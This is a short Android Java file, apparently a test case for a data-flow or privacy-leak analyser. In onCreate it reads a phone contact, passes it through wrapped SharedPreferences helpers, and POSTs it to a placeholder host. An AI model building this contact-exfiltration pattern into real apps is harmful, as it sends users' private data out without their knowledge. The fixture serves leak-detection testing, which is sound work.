// The key goes through methods of the app that wrap the preferences.
package cases.flow_preferences_wrapped;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        put("address_book", rows.getString(0));
        try {
            send(get("address_book").getBytes());
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }

    private void put(String key, String value) {
        getSharedPreferences("store", 0).edit().putString(key, value).apply();
    }

    private String get(String key) {
        return getSharedPreferences("store", 0).getString(key, "");
    }

    static void send(byte[] body) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(body);
        out.close();
        connection.getInputStream().close();
    }
}
